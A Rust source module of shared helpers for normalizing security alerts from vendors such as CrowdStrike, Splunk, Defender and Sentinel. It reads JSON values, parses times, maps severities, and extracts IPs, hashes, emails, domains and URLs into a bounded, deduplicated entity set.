//! Shared helpers for every format: reading loosely typed JSON values, parsing times, capping
//! titles, recognising entity shapes (IPv4/IPv6, e-mail, URL, hex hashes, host names) and a
//! bounded walker that finds entities in any JSON tree by key names and value shapes.
//!
//! Limits (so a hostile 1 MiB payload cannot blow up time or memory):
//! * the walker descends at most [`MAX_DEPTH`] levels and visits at most [`MAX_NODES`] values;
//! * an [`EntitySet`] keeps at most [`MAX_ENTITIES`] entities;
//! * strings longer than [`MAX_STR_LEN`] bytes are never considered as entities.
//!
//! What is never extracted: empty strings and placeholders (`-`, `null`, `N/A`, ...), all-zero
//! hashes, hex strings of the wrong length, and vendor console links (Falcon host links, Splunk
//! `results_link`, Defender `alertWebUrl`/`incidentWebUrl`, Kibana `rule_url`, Sentinel
//! `incidentUrl`, MITRE `reference` links, ...), recognised both by their key and by their host.
//!
//! `serde_json` is built without `preserve_order`, so objects are walked in key order; the
//! vendor-specific normalizers add their main entities explicitly first, so their order is the
//! order that makes sense for the vendor.

use super::Object;
use crate::hosts::{self, DomainName};
use crate::{Entity, EntityKind, Severity};
use chrono::{DateTime, NaiveDateTime, Utc};
use serde_json::Value;
use std::borrow::Cow;
use std::collections::HashMap;
use std::hash::{BuildHasher, BuildHasherDefault, Hasher, RandomState};
use std::net::IpAddr;
use url::Url;

/// How deep the generic walker descends.
pub const MAX_DEPTH: usize = 32;
/// How many entities one alert keeps at most.
pub const MAX_ENTITIES: usize = 200;
/// Longest string (in bytes) considered as an entity value.
pub const MAX_STR_LEN: usize = 2048;
/// How many JSON values one walk visits at most.
pub const MAX_NODES: usize = 20_000;
/// How many strings shaped like URLs one [`EntitySet`] hands to the URL parser at most (each
/// at most [`MAX_STR_LEN`] bytes), so that a payload of many long URLs costs bounded time.
pub const MAX_URL_PARSES: usize = 1000;
/// How many bytes of one free text [`EntitySet::add_urls_in_text`] scans.
pub const MAX_TEXT_SCAN: usize = 16 * 1024;
/// Longest title, in characters.
pub const MAX_TITLE_CHARS: usize = 512;
/// Longest description, in characters.
pub const MAX_DESCRIPTION_CHARS: usize = 8192;

// ---------------------------------------------------------------------------------------------
// Reading values
// ---------------------------------------------------------------------------------------------

/// A value as trimmed, non-empty text: strings as they are, numbers in their JSON form, booleans
/// and everything else `None`. Placeholders (`-`, `null`, `N/A`) count as absent.
pub fn text(v: &Value) -> Option<String> {
    text_ref(v).map(Cow::into_owned)
}

/// [`text`] without copying a string value (a number is still written out).
pub(crate) fn text_ref(v: &Value) -> Option<Cow<'_, str>> {
    match v {
        Value::String(s) => {
            let t = trim(s);
            if t.is_empty() || is_placeholder(t) { None } else { Some(Cow::Borrowed(t)) }
        }
        Value::Number(n) => Some(Cow::Owned(n.to_string())),
        _ => None,
    }
}

/// `text` of `obj[key]`.
pub fn text_at(obj: &Object, key: &str) -> Option<String> {
    obj.get(key).and_then(text)
}

/// [`text_at`] without copying a string value.
pub(crate) fn text_ref_at<'a>(obj: &'a Object, key: &str) -> Option<Cow<'a, str>> {
    obj.get(key).and_then(text_ref)
}

/// The first of `keys` that has a text value.
pub fn first_text(obj: &Object, keys: &[&str]) -> Option<String> {
    keys.iter().find_map(|k| text_at(obj, k))
}

/// `obj[key]` when it is an object.
pub fn obj_at<'a>(obj: &'a Object, key: &str) -> Option<&'a Object> {
    obj.get(key).and_then(Value::as_object)
}

/// Follows a path of object keys.
pub fn path<'a>(obj: &'a Object, keys: &[&str]) -> Option<&'a Value> {
    let (last, init) = keys.split_last()?;
    let mut cur = obj;
    for k in init {
        cur = cur.get(*k)?.as_object()?;
    }
    cur.get(*last)
}

/// The value of the first key that matches one of `names` case-insensitively (ignoring `_`).
pub fn get_ci<'a>(obj: &'a Object, names: &[&str]) -> Option<&'a Value> {
    names.iter().find_map(|n| {
        let want = NormKey::new(n);
        let want = want.as_str();
        obj.iter().find(|(k, v)| !v.is_null() && norm_eq(k, want)).map(|(_, v)| v)
    })
}

/// `text` of [`get_ci`], skipping keys whose value is not usable text.
pub fn text_ci(obj: &Object, names: &[&str]) -> Option<String> {
    names.iter().find_map(|n| {
        let want = NormKey::new(n);
        let want = want.as_str();
        obj.iter().filter(|(k, _)| norm_eq(k, want)).find_map(|(_, v)| text(v))
    })
}

/// Strings (or numbers) of a value that may be one value or an array of them.
pub fn texts(v: &Value) -> Vec<String> {
    texts_ref(v).map(Cow::into_owned).collect()
}

/// [`texts`] without copying string values.
fn texts_ref(v: &Value) -> impl Iterator<Item = Cow<'_, str>> {
    let (items, single) = match v {
        Value::Array(items) => (items.as_slice(), None),
        other => (&[][..], text_ref(other)),
    };
    items.iter().take(MAX_ENTITIES).filter_map(text_ref).chain(single)
}

/// A key lowercased with `_`, `-`, `.`, `@`, `$` and spaces removed (`src_ip` -> `srcip`).
pub fn norm_key(k: &str) -> String {
    k.chars().filter(|c| c.is_ascii_alphanumeric()).map(|c| c.to_ascii_lowercase()).collect()
}

/// A key normalised as by [`norm_key`] without allocating: borrowed when it is already
/// normalised (most keys), else kept on the stack when it is at most [`NormKey::INLINE`] bytes
/// (every real key). The walker and the key searches normalise every key they visit, and an
/// allocation per key was a third of their time.
pub(crate) enum NormKey<'a> {
    /// The key itself: it has only lowercase ASCII letters and digits.
    Same(&'a str),
    /// The normalised bytes and their length.
    Inline([u8; NormKey::INLINE], usize),
    /// A key whose normalised form is longer than the buffer.
    Long(String),
}

impl<'a> NormKey<'a> {
    const INLINE: usize = 64;

    pub(crate) fn new(key: &'a str) -> Self {
        if key.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()) {
            return NormKey::Same(key);
        }
        let mut buf = [0; Self::INLINE];
        let mut len = 0;
        for b in key.bytes().filter(u8::is_ascii_alphanumeric) {
            if len == Self::INLINE {
                return NormKey::Long(norm_key(key));
            }
            buf[len] = b.to_ascii_lowercase();
            len += 1;
        }
        NormKey::Inline(buf, len)
    }

    pub(crate) fn as_str(&self) -> &str {
        match self {
            NormKey::Same(key) => key,
            // Only ASCII letters and digits are ever copied in, so this is always valid UTF-8.
            NormKey::Inline(buf, len) => std::str::from_utf8(&buf[..*len]).unwrap_or_default(),
            NormKey::Long(key) => key,
        }
    }
}

/// Whether `key` normalises (as by [`norm_key`]) to `want`, which is already normalised; no
/// allocation. Non-ASCII characters never survive normalisation, so comparing bytes is exact.
fn norm_eq(key: &str, want: &str) -> bool {
    let mut want = want.bytes();
    key.bytes().filter(u8::is_ascii_alphanumeric).all(|b| want.next() == Some(b.to_ascii_lowercase())) && want.next().is_none()
}

/// `needle` occurs in `haystack`. For the short keys compared here a plain scan beats
/// `str::contains`, which sets up a substring searcher on every call.
fn has(haystack: &str, needle: &str) -> bool {
    let (h, n) = (haystack.as_bytes(), needle.as_bytes());
    n.is_empty() || (h.len() >= n.len() && h.windows(n.len()).any(|w| w == n))
}

/// `needle` (lowercase ASCII) occurs in `haystack` ignoring ASCII case: what
/// `haystack.to_ascii_lowercase().contains(needle)` says, without the copy.
pub(crate) fn has_ignore_case(haystack: &str, needle: &str) -> bool {
    let (h, n) = (haystack.as_bytes(), needle.as_bytes());
    n.is_empty() || (h.len() >= n.len() && h.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n)))
}

/// The first position from `from` where `needle` (lowercase ASCII) starts in `haystack`,
/// ignoring ASCII case: `haystack.to_ascii_lowercase()[from..].find(needle)`, without the copy.
fn find_ignore_case(haystack: &str, from: usize, needle: &str) -> Option<usize> {
    let (h, n) = (haystack.as_bytes().get(from..)?, needle.as_bytes());
    if n.is_empty() {
        return Some(from);
    }
    if h.len() < n.len() {
        return None;
    }
    h.windows(n.len()).position(|w| w.eq_ignore_ascii_case(n)).map(|i| from + i)
}

/// `s` starts with `prefix` (lowercase ASCII) ignoring ASCII case.
pub(crate) fn starts_with_ignore_case(s: &str, prefix: &str) -> bool {
    s.len() >= prefix.len() && s.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
}

/// `s` ends with `suffix` (lowercase ASCII) ignoring ASCII case.
fn ends_with_ignore_case(s: &str, suffix: &str) -> bool {
    s.len() >= suffix.len() && s.as_bytes()[s.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
}

/// `s.trim()`, skipping the search for Unicode whitespace when `s` starts and ends with an
/// ASCII character that is not whitespace (strings are trimmed once, then checked again by
/// each shape test).
fn trim(s: &str) -> &str {
    match (s.as_bytes().first(), s.as_bytes().last()) {
        (Some(first), Some(last)) if first.is_ascii_graphic() && last.is_ascii_graphic() => s,
        _ => s.trim(),
    }
}

/// Values that mean "nothing" even though they are non-empty text (compared ignoring ASCII case).
const PLACEHOLDERS: &[&str] = &["-", "--", "null", "none", "nil", "n/a", "na", "undefined", "unknown", "(null)", "{}", "[]"];

/// Values that mean "nothing" even though they are non-empty text.
pub fn is_placeholder(s: &str) -> bool {
    // Asked of every string the walker sees: no lowercased copy, and anything longer than
    // `undefined` is rejected by its length.
    s.len() <= 9 && PLACEHOLDERS.iter().any(|p| s.eq_ignore_ascii_case(p))
}

/// Trims and caps a text to `max` characters, cutting on a character boundary.
pub fn cap_chars(s: &str, max: usize) -> String {
    capped(s, max).to_string()
}

/// The part of `s` that [`cap_chars`] keeps.
fn capped(s: &str, max: usize) -> &str {
    let t = trim(s);
    // No more bytes than `max` is no more characters: nothing to count.
    if t.len() <= max {
        return t;
    }
    match t.char_indices().nth(max) {
        Some((idx, _)) => t[..idx].trim_end(),
        None => t,
    }
}

/// [`cap_chars`] of an owned text, which is kept as it is (no copy) when nothing is cut.
pub(crate) fn cap_owned(s: String, max: usize) -> String {
    let kept = capped(&s, max);
    if kept.len() == s.len() { s } else { kept.to_string() }
}

/// A title: control characters become spaces, trimmed, capped to [`MAX_TITLE_CHARS`].
pub fn title(s: &str) -> String {
    title_owned(s.to_string())
}

/// [`title`] of an owned text, which is kept as it is (no copy) when nothing changes.
pub(crate) fn title_owned(s: String) -> String {
    if s.chars().any(char::is_control) {
        let clean: String = s.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
        cap_owned(clean, MAX_TITLE_CHARS)
    } else {
        cap_owned(s, MAX_TITLE_CHARS)
    }
}

/// A description: trimmed, capped to [`MAX_DESCRIPTION_CHARS`]; `None` when empty.
pub fn description(s: Option<String>) -> Option<String> {
    s.map(|d| cap_owned(d, MAX_DESCRIPTION_CHARS)).filter(|d| !d.is_empty())
}

// ---------------------------------------------------------------------------------------------
// Times
// ---------------------------------------------------------------------------------------------

/// Parses an ISO-8601 / RFC 3339 time, with or without zone (zone-less is UTC), with any number
/// of fractional digits (Microsoft's 7), with `T` or a space; also `YYYY-MM-DD`.
pub fn parse_iso(s: &str) -> Option<DateTime<Utc>> {
    // Years 1..=9999 only, as for epoch values: every store can keep those (PostgreSQL's
    // timestamptz refuses year -10000, which chrono's `%Y` reads), and nothing real is outside.
    parse_iso_any_year(s).filter(|t| (1..=9999).contains(&chrono::Datelike::year(t)))
}

fn parse_iso_any_year(s: &str) -> Option<DateTime<Utc>> {
    let s = s.trim();
    if s.len() < 10 || s.len() > 64 {
        return None;
    }
    if let Ok(t) = DateTime::parse_from_rfc3339(s) {
        return Some(t.with_timezone(&Utc));
    }
    if let Ok(t) = DateTime::parse_from_str(s, "%Y-%m-%dT%H:%M:%S%.f%z") {
        return Some(t.with_timezone(&Utc));
    }
    for fmt in ["%Y-%m-%dT%H:%M:%S%.f", "%Y-%m-%d %H:%M:%S%.f", "%Y-%m-%dT%H:%M"] {
        if let Ok(t) = NaiveDateTime::parse_from_str(s, fmt) {
            return Some(t.and_utc());
        }
    }
    if let Ok(d) = chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d") {
        return d.and_hms_opt(0, 0, 0).map(|t| t.and_utc());
    }
    DateTime::parse_from_rfc2822(s).ok().map(|t| t.with_timezone(&Utc))
}

fn number_of(v: &Value) -> Option<f64> {
    match v {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => {
            let t = s.trim();
            if t.is_empty() || t.len() > 32 || !t.bytes().all(|b| b.is_ascii_digit() || b == b'.' || b == b'-') {
                return None;
            }
            t.parse::<f64>().ok()
        }
        _ => None,
    }
    .filter(|f| f.is_finite())
}

fn from_epoch_secs_f64(secs: f64) -> Option<DateTime<Utc>> {
    // Refuse absurd values instead of overflowing (years 1970..=9999).
    if !(0.0..=253_402_300_799.0).contains(&secs) {
        return None;
    }
    let whole = secs.trunc();
    let nanos = ((secs - whole) * 1e9).round().clamp(0.0, 999_999_999.0) as u32;
    DateTime::from_timestamp(whole as i64, nanos)
}

/// Epoch seconds (number or numeric string, fractions allowed); ISO strings are accepted too.
pub fn time_epoch_secs(v: &Value) -> Option<DateTime<Utc>> {
    match number_of(v) {
        Some(n) => from_epoch_secs_f64(n),
        None => v.as_str().and_then(parse_iso),
    }
}

/// Epoch milliseconds (number or numeric string); ISO strings are accepted too.
pub fn time_epoch_millis(v: &Value) -> Option<DateTime<Utc>> {
    match number_of(v) {
        Some(n) => from_epoch_secs_f64(n / 1000.0),
        None => v.as_str().and_then(parse_iso),
    }
}

/// Any time: ISO strings, or numbers read as epoch milliseconds when above 10^11 (which as
/// seconds would be after the year 5000), else as epoch seconds.
pub fn time_any(v: &Value) -> Option<DateTime<Utc>> {
    match number_of(v) {
        Some(n) if n.abs() >= 1e11 => from_epoch_secs_f64(n / 1000.0),
        Some(n) => from_epoch_secs_f64(n),
        None => v.as_str().and_then(parse_iso),
    }
}

// ---------------------------------------------------------------------------------------------
// Severity helpers
// ---------------------------------------------------------------------------------------------

/// A 0-100 score: >= 90 critical, >= 70 high, >= 40 medium, >= 20 low, else info.
/// (CrowdStrike EPP uses 10/30/50/70/90; Elastic risk scores 21/47/73/99.)
pub fn severity_from_score(score: f64) -> Severity {
    if score >= 90.0 {
        Severity::Critical
    } else if score >= 70.0 {
        Severity::High
    } else if score >= 40.0 {
        Severity::Medium
    } else if score >= 20.0 {
        Severity::Low
    } else {
        Severity::Info
    }
}

/// Our severity for a vendor value of unknown scale: words through
/// [`Severity::from_vendor_word`] (plus `malicious` -> high, `suspicious` -> medium), 0-5 as
/// the usual 1-5 scale, larger numbers as a 0-100 score.
pub fn severity_from_value(v: &Value) -> Option<Severity> {
    if let Some(n) = number_of(v) {
        if (0.0..=5.0).contains(&n) && n.fract() == 0.0 {
            return Severity::from_vendor_word(&(n as i64).to_string());
        }
        if (0.0..=100.0).contains(&n) {
            return Some(severity_from_score(n));
        }
        return None;
    }
    let s = v.as_str()?;
    Severity::from_vendor_word(s).or_else(|| match s.trim().to_ascii_lowercase().as_str() {
        "malicious" => Some(Severity::High),
        "suspicious" => Some(Severity::Medium),
        _ => None,
    })
}

// ---------------------------------------------------------------------------------------------
// Shapes
// ---------------------------------------------------------------------------------------------

/// An IPv4 or IPv6 address (brackets around IPv6 allowed), in its canonical form.
pub fn as_ip(s: &str) -> Option<String> {
    parse_ip(s).map(ip_text)
}

/// An address in its canonical form: `IpAddr`'s `Display`, with IPv4 (most addresses) written
/// directly rather than through the formatting machinery.
fn ip_text(ip: IpAddr) -> String {
    let IpAddr::V4(v4) = ip else { return ip.to_string() };
    let mut out = String::with_capacity(15);
    for (i, octet) in v4.octets().into_iter().enumerate() {
        if i > 0 {
            out.push('.');
        }
        if octet >= 100 {
            out.push(char::from(b'0' + octet / 100));
        }
        if octet >= 10 {
            out.push(char::from(b'0' + octet / 10 % 10));
        }
        out.push(char::from(b'0' + octet % 10));
    }
    out
}

/// The address [`as_ip`] reads, before it is written out.
fn parse_ip(s: &str) -> Option<IpAddr> {
    let t = trim(s);
    let t = t.strip_prefix('[').and_then(|x| x.strip_suffix(']')).unwrap_or(t);
    // The standard parser accepts only hex digits, `.` and `:` (no zone, no brackets, no
    // sign): anything else is rejected here without running it.
    if t.len() > 64 || !t.bytes().all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b':') {
        return None;
    }
    t.parse::<IpAddr>().ok()
}

/// A hex hash of MD5/SHA-1/SHA-256 length (32/40/64), lowercased; never all zeros.
pub fn as_hash(s: &str) -> Option<String> {
    let t = trim(s);
    if !matches!(t.len(), 32 | 40 | 64) || !t.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    if t.bytes().all(|b| b == b'0') {
        return None;
    }
    Some(t.to_ascii_lowercase())
}

/// An e-mail address (`local@domain.tld`), lowercased; `mailto:` stripped.
pub fn as_email(s: &str) -> Option<String> {
    email_str(s).map(str::to_ascii_lowercase)
}

/// The address [`as_email`] accepts (trimmed, `mailto:` stripped), before it is lowercased.
fn email_str(s: &str) -> Option<&str> {
    let t = trim(s);
    let t = t.strip_prefix("mailto:").unwrap_or(t);
    let (local, domain) = t.split_once('@')?;
    let ok_local = !local.is_empty()
        && local.len() <= 64
        && local.chars().all(|c| {
            c.is_alphanumeric()
                || matches!(
                    c,
                    '!' | '#' | '$' | '%' | '&' | '\'' | '*' | '+' | '/' | '=' | '?' | '^' | '_' | '`' | '{' | '|' | '}' | '~' | '.' | '-'
                )
        });
    (ok_local && domain_str(domain).is_some()).then_some(t)
}

/// A host name: letters, digits, `-`, `_` and dots, not an IP, not all digits, <= 253 chars.
pub fn as_hostname(s: &str) -> Option<String> {
    hostname_str(s).map(str::to_string)
}

/// The host name [`as_hostname`] accepts (trimmed, trailing dots removed).
fn hostname_str(s: &str) -> Option<&str> {
    let t = trim(s).trim_end_matches('.');
    if t.is_empty() || t.len() > 253 || is_placeholder(t) || t.starts_with('-') {
        return None;
    }
    // One pass: only letters, digits, `-`, `_` and `.`, at least one letter, no `..`.
    let (mut letter, mut after_dot) = (false, false);
    for b in t.bytes() {
        match b {
            b'.' if after_dot => return None,
            b'.' => after_dot = true,
            b'a'..=b'z' | b'A'..=b'Z' => (letter, after_dot) = (true, false),
            b'0'..=b'9' | b'-' | b'_' => after_dot = false,
            _ => return None,
        }
    }
    (letter && parse_ip(t).is_none()).then_some(t)
}

/// A DNS domain: a host name with at least one dot and a letter (or punycode) TLD; lowercased.
/// An internationalized name (`exämple.com`) is given in its ASCII form (`xn--exmple-cua.com`),
/// the form URL hosts are reported in, so that both forms of one name meet.
pub fn as_domain(s: &str) -> Option<String> {
    if let Some(d) = domain_str(s) {
        return Some(d.to_ascii_lowercase());
    }
    let t = trim(s);
    if t.is_ascii() || t.len() > MAX_STR_LEN {
        return None;
    }
    let name = DomainName::parse(t)?;
    domain_str(name.ascii()).map(str::to_string)
}

/// The domain [`as_domain`] accepts, before it is lowercased.
fn domain_str(s: &str) -> Option<&str> {
    let h = hostname_str(s)?;
    let tld = h.rsplit('.').next()?;
    let letters = tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic());
    let punycode = tld.len() > 4 && starts_with_ignore_case(tld, "xn--");
    (h.contains('.') && (letters || punycode)).then_some(h)
}

/// An absolute `http(s)`/`ftp` URL with a host, read as a browser reads it (WHATWG: `\` ends
/// an http(s) host, tabs and newlines are dropped, the host is percent-decoded, IDNA-mapped and
/// lowercased), in its standard serialization: what the browser would request, so that no
/// later reader can find another host in it.
pub fn as_url(s: &str) -> Option<String> {
    hosts::web_url(s).map(String::from)
}

/// `s` holds whitespace that the URL parser keeps (anything but the ASCII tab, line feed and
/// carriage return it drops): a value with a space in it is prose, not a link, unless its key
/// says it is a URL.
fn has_prose_whitespace(s: &str) -> bool {
    if s.is_ascii() {
        s.bytes().any(|b| matches!(b, b'\x0b' | b'\x0c' | b' '))
    } else {
        s.chars().any(|c| c.is_whitespace() && !matches!(c, '\t' | '\n' | '\r'))
    }
}

/// The host of a URL as a browser reads it, without port or credentials: a domain in its ASCII
/// (punycode) form, lowercase; an IP address in canonical form (IPv6 without brackets).
pub fn url_host(url: &str) -> Option<String> {
    hosts::web_url(url).as_ref().and_then(hosts::url_host_text)
}

/// Hosts that only ever serve vendor consoles or reference pages, never an IOC.
const CONSOLE_HOSTS: &[&str] = &[
    "falcon.crowdstrike.com",
    "falcon.us-2.crowdstrike.com",
    "falcon.eu-1.crowdstrike.com",
    "falcon.laggar.gcw.crowdstrike.com",
    "security.microsoft.com",
    "portal.azure.com",
    "portal.cloudappsecurity.com",
    "securitycenter.windows.com",
    "securitycenter.microsoft.com",
    "protection.office.com",
    "compliance.microsoft.com",
    "attack.mitre.org",
];

/// Whether a URL is a vendor console / results / reference link rather than an indicator.
pub fn is_console_link(url: &str) -> bool {
    hosts::web_url(url).is_some_and(|u| is_console_url(&u))
}

/// [`is_console_link`] of a parsed URL.
fn is_console_url(parsed: &Url) -> bool {
    // The parser lowercased the host; paths are compared ignoring ASCII case.
    let Some(host) = parsed.host_str() else { return false };
    let url = parsed.as_str();
    if CONSOLE_HOSTS.iter().any(|h| hosts::is_within(host, h)) {
        return true;
    }
    if ends_with_ignore_case(host, ".crowdstrike.com") && starts_with_ignore_case(host, "falcon") {
        return true;
    }
    // Splunk search results (`/app/<app>/@go?sid=`, `/app/<app>/search?sid=`) and Kibana pages.
    // Each path pattern starts with `/`: one pass looks only at the slashes.
    let mut app = false;
    for (i, _) in url.bytes().enumerate().filter(|(_, b)| *b == b'/') {
        let rest = &url[i..];
        if starts_with_ignore_case(rest, "/@go?sid=")
            || starts_with_ignore_case(rest, "/app/security/")
            || starts_with_ignore_case(rest, "/app/kibana")
        {
            return true;
        }
        app |= starts_with_ignore_case(rest, "/app/");
    }
    app && has_ignore_case(url, "sid=scheduler__")
}

/// Keys whose values are console links, references or our own metadata, never indicators; the
/// walker neither extracts from nor descends into them.
pub fn is_link_key(key: &str) -> bool {
    is_link_norm_key(NormKey::new(key).as_str())
}

/// [`is_link_key`] of a key already normalised.
fn is_link_norm_key(k: &str) -> bool {
    k.ends_with("weburl")
        || k.ends_with("hostlink")
        || k.ends_with("link")
        || k.ends_with("links")
        || k.ends_with("href")
        || has(k, "reference")
        || matches!(
            k,
            "resultslink" | "ruleurl" | "incidenturl" | "alerturl" | "consoleurl" | "portalurl" | "deeplink" | "latestreport" | "etag"
        )
}

// ---------------------------------------------------------------------------------------------
// The entity set
// ---------------------------------------------------------------------------------------------

/// Entities in first-appearance order, deduplicated by kind and value (case-insensitively for
/// e-mails, host names, domains and hashes), validated by kind, capped at [`MAX_ENTITIES`].
#[derive(Debug, Default)]
pub struct EntitySet {
    items: Vec<Entity>,
    /// Where each entity is in `items`, by a keyed hash of its dedup key (kind, and value
    /// case-folded for the kinds compared case-insensitively): no copy of the key is kept, and
    /// a match is confirmed against the entity itself, so two keys that share a hash stay two
    /// entities.
    seen: HashMap<u64, usize, BuildHasherDefault<KeyHashHasher>>,
    /// The (random) key of those hashes, so that payloads cannot be built to collide.
    keys: RandomState,
    /// How many strings went to the URL parser (at most [`MAX_URL_PARSES`]).
    urls_parsed: usize,
}

/// The hasher of [`EntitySet`]'s map, whose keys are already keyed SipHash values: it passes
/// them through instead of hashing them a second time.
#[derive(Debug, Default)]
struct KeyHashHasher(u64);

impl Hasher for KeyHashHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        // Only `u64` keys are hashed (`write_u64`); this is here because the trait requires it.
        for &b in bytes {
            self.0 = self.0.rotate_left(8) ^ u64::from(b);
        }
    }

    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }
}

/// Kinds deduplicated ignoring ASCII case.
fn folds_case(kind: EntityKind) -> bool {
    matches!(kind, EntityKind::Email | EntityKind::Hostname | EntityKind::Domain | EntityKind::FileHash)
}

impl EntitySet {
    pub fn new() -> Self {
        // Room for a typical alert's entities, so that the first ones do not grow (and rehash)
        // both collections several times.
        EntitySet {
            items: Vec::with_capacity(16),
            seen: HashMap::with_capacity_and_hasher(16, Default::default()),
            keys: RandomState::new(),
            urls_parsed: 0,
        }
    }

    /// [`hosts::web_url`] within the set's parse budget: strings that do not start with a web
    /// scheme are refused without parsing and cost nothing.
    fn parse_url(&mut self, s: &str) -> Option<Url> {
        let t = s.trim_matches(|c: char| c <= ' ');
        if self.urls_parsed >= MAX_URL_PARSES || !hosts::has_web_scheme(t) {
            return None;
        }
        self.urls_parsed += 1;
        hosts::web_url(t)
    }

    /// The keyed hash of an entity's dedup key.
    fn key_hash(&self, kind: EntityKind, value: &str) -> u64 {
        let mut h = self.keys.build_hasher();
        h.write_u8(kind as u8);
        if folds_case(kind) {
            // Lowercased through a small buffer rather than into a new string.
            let mut buf = [0u8; 64];
            for chunk in value.as_bytes().chunks(buf.len()) {
                let folded = &mut buf[..chunk.len()];
                folded.copy_from_slice(chunk);
                folded.make_ascii_lowercase();
                h.write(folded);
            }
        } else {
            h.write(value.as_bytes());
        }
        h.finish()
    }

    pub fn len(&self) -> usize {
        self.items.len()
    }

    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    pub fn is_full(&self) -> bool {
        self.items.len() >= MAX_ENTITIES
    }

    pub fn into_vec(self) -> Vec<Entity> {
        self.items
    }

    /// Adds a value as `kind` if it has that kind's shape; returns whether it was new.
    pub fn add(&mut self, kind: EntityKind, raw: &str, role: Option<&str>) -> bool {
        if self.is_full() || raw.len() > MAX_STR_LEN {
            return false;
        }
        let t = trim(raw);
        if t.is_empty() || is_placeholder(t) {
            return false;
        }
        let value = match kind {
            EntityKind::Ip => as_ip(t),
            EntityKind::FileHash => as_hash(t),
            EntityKind::Email => as_email(t),
            EntityKind::Hostname => as_hostname(t),
            EntityKind::Domain => as_domain(t),
            EntityKind::Url => self.parse_url(t).filter(|u| !is_console_url(u)).map(String::from),
            EntityKind::User => (!t.chars().any(|c| c.is_whitespace() || c.is_control()) && t.len() <= 256).then(|| t.to_string()),
            EntityKind::File | EntityKind::Process => {
                (!t.chars().any(char::is_control) || kind == EntityKind::Process).then(|| t.to_string())
            }
        };
        let Some(value) = value else { return false };
        self.insert(kind, value, role)
    }

    /// Adds a value already validated as `kind` (what [`add`](Self::add) would make of it);
    /// returns whether it was new.
    fn insert(&mut self, kind: EntityKind, value: String, role: Option<&str>) -> bool {
        if self.is_full() {
            return false;
        }
        let hash = self.key_hash(kind, &value);
        let same = |e: &Entity| e.kind == kind && if folds_case(kind) { e.value.eq_ignore_ascii_case(&value) } else { e.value == value };
        match self.seen.get(&hash) {
            Some(&i) if same(&self.items[i]) => return false,
            // Another key with the same hash (astronomically rare): compare with every entity.
            Some(_) if self.items.iter().any(same) => return false,
            Some(_) => {}
            None => {
                self.seen.insert(hash, self.items.len());
            }
        }
        self.items.push(Entity { kind, value, role: role.map(str::to_string) });
        true
    }

    /// [`add`](Self::add) for every text in a value that may be a string or an array.
    pub fn add_value(&mut self, kind: EntityKind, v: Option<&Value>, role: Option<&str>) {
        for s in v.into_iter().flat_map(texts_ref) {
            self.add(kind, &s, role);
        }
    }

    /// Adds a hash found in Sysmon's `Hashes` form (`SHA1=..,MD5=..,SHA256=..,IMPHASH=..`);
    /// SHA256 first, then SHA1, then MD5; IMPHASH is not a file hash and is skipped.
    pub fn add_sysmon_hashes(&mut self, s: &str, role: Option<&str>) {
        const ALGORITHMS: [&str; 3] = ["SHA256", "SHA1", "MD5"];
        // One pass over the pairs; then the hashes by algorithm (a stable sort keeps the
        // order of several hashes of one algorithm).
        let mut hashes: Vec<(usize, &str)> = Vec::new();
        let mut any_pair = false;
        for (k, v) in s.split([',', ';', ' ']).filter_map(|p| p.split_once('=')) {
            any_pair = true;
            if let Some(rank) = ALGORITHMS.iter().position(|a| k.trim().eq_ignore_ascii_case(a)) {
                hashes.push((rank, v.trim()));
            }
        }
        hashes.sort_by_key(|(rank, _)| *rank);
        for (_, v) in hashes {
            self.add(EntityKind::FileHash, v, role);
        }
        if !any_pair {
            self.add(EntityKind::FileHash, s, role);
        }
    }

    /// Adds the URLs found inside free text (a command line, a mail body): from `http` up to
    /// whitespace or a quote/bracket, or, for a URL that opens a quoted value (`href="http…"`),
    /// up to the closing quote, since a browser drops the tabs and newlines inside an
    /// attribute. Each URL is read as a browser reads it ([`as_url`]). Only the first
    /// [`MAX_TEXT_SCAN`] bytes are scanned.
    pub fn add_urls_in_text(&mut self, s: &str, role: Option<&str>) {
        let mut cut = s.len().min(MAX_TEXT_SCAN);
        while !s.is_char_boundary(cut) {
            cut -= 1;
        }
        let s = &s[..cut];
        let mut from = 0;
        while let Some(start) = find_ignore_case(s, from, "http") {
            let tail = s.get(start..).unwrap_or("");
            let quoted = s[..start].chars().next_back().filter(|c| matches!(c, '"' | '\''));
            let end = quoted
                .and_then(|q| tail.find(q))
                .filter(|end| *end <= MAX_STR_LEN)
                .or_else(|| tail.find(|c: char| c.is_whitespace() || "'\"<>()[]{}|`,;".contains(c)))
                .unwrap_or(tail.len());
            let candidate = tail.get(..end).unwrap_or("");
            self.add(EntityKind::Url, candidate, role);
            from = start + end.max(4);
            if self.is_full() || self.urls_parsed >= MAX_URL_PARSES {
                break;
            }
        }
    }

    /// A file path made of a directory and a name (either may be missing); when the directory
    /// already ends with the name it is the full path.
    pub fn add_file(&mut self, dir: Option<&str>, name: Option<&str>, role: Option<&str>) {
        let dir = dir.map(str::trim).filter(|d| !d.is_empty());
        let name = name.map(str::trim).filter(|n| !n.is_empty());
        let full = match (dir, name) {
            (Some(d), Some(n)) if d.len() >= n.len() && d.as_bytes()[d.len() - n.len()..].eq_ignore_ascii_case(n.as_bytes()) => {
                Cow::Borrowed(d)
            }
            (Some(d), Some(n)) => {
                let sep = if d.contains('\\') { '\\' } else { '/' };
                let d = d.trim_end_matches(['\\', '/']);
                let mut full = String::with_capacity(d.len() + 1 + n.len());
                full.push_str(d);
                full.push(sep);
                full.push_str(n);
                Cow::Owned(full)
            }
            (Some(d), None) => Cow::Borrowed(d),
            (None, Some(n)) => Cow::Borrowed(n),
            (None, None) => return,
        };
        self.add(EntityKind::File, &full, role);
    }
}

// ---------------------------------------------------------------------------------------------
// Typed entity objects (Sentinel, Microsoft Graph evidence, M365 Defender incident entities)
